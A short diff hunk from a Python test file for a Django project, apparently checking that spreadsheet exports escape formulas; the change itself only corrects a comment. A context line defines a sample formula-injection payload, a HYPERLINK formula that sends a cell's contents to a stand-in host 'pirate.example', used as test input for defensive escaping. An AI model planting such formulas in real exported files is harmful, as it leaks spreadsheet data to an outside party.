@@ -27,7 +27,7 @@ from mesads.exchange.columns import escape_formula, headers, unescape_formula
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")'
-# Session, user, the user's scope (mesads.ads.scope), the authority, the driver count,
+# Session, user, the user's scope (mesads.users.scope), the authority, the driver count,
 # the ADS cursor, the drivers cursor.
 EXPORT_QUERIES = 7
 
